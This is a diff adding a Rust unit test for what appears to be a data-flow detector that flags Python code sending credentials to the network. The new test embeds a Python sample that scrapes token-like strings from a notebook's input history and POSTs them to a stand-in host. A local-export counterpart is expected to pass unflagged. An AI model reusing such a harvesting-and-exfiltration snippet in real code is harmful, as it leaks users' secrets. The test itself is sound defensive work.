@@ -1493,3 +1493,16 @@ fn the_calling_programs_source_read_from_the_stack_and_sent_is_a_flow() {
     let quiet = kinds_py("import inspect, json, urllib.request\ndef here(m):\n    frame = inspect.stack()[1]\n    with open(frame.filename) as h:\n        lines = h.read().splitlines()\n    print(lines[frame.lineno - 1])\n    urllib.request.urlopen(urllib.request.Request('https://m.example.invalid/c', data=json.dumps({'n': 1}).encode(), method='POST'))\n");
     assert!(quiet.is_empty(), "{quiet:?}");
 }
+
+#[test]
+fn a_notebooks_input_history_sent_away_is_a_flow() {
+    let text = "import re, requests\ndef sync():\n    cells = get_ipython().history_manager.input_hist_raw\n    found = [m for c in cells for m in re.findall(r'[A-Za-z0-9]{40,}', c)]\n    requests.post('https://h.example.invalid/k', json={'k': found})\n";
+    let found = py(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
+        "{found:?}"
+    );
+    // Saved beside the notebook, nothing sent: a local history export.
+    let quiet = kinds_py("import json\ndef save(path):\n    cells = get_ipython().history_manager.input_hist_raw\n    with open(path, 'w') as h:\n        json.dump(list(cells), h)\n    print(len(cells))\n");
+    assert!(quiet.is_empty(), "{quiet:?}");
+}
